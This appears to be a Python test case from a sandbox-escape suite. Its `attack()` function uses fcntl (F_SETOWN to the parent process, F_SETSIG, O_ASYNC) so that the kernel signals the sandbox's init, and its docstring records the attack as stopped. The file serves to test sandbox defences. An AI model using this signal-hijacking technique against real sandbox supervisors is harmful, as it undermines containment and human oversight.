"""Has the kernel signal the init whenever a call arrives: the init would ask the next worker for its stack.

stopped_by: the init ends a slot whose descriptors were changed
plain bwrap: stopped
how: executed
"""

import fcntl
import os

from tools import channel


def attack():
    descriptor = channel()
    fcntl.fcntl(descriptor, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(descriptor, 10, 42)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
    return 0.0
